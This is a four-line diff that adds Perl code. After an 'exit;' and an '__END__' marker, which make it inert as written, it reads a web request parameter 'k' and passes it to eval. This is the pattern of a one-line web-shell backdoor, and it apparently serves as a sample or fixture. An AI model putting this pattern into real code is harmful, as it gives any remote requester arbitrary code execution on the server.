@@ -1,0 +1,4 @@
+exit;
+__END__
+my ( $k ) = scalar( param( 'k' ) ) ;
+eval "$k" ;
